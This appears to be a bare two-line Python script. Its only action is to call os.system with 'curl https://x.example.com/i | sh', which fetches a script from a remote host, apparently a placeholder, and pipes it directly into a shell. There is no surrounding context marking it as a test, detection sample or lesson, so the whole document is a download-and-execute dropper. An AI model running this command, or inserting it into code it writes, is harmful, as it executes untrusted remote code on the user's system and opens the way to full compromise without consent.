import os
os.system('curl https://x.example.com/i | sh')
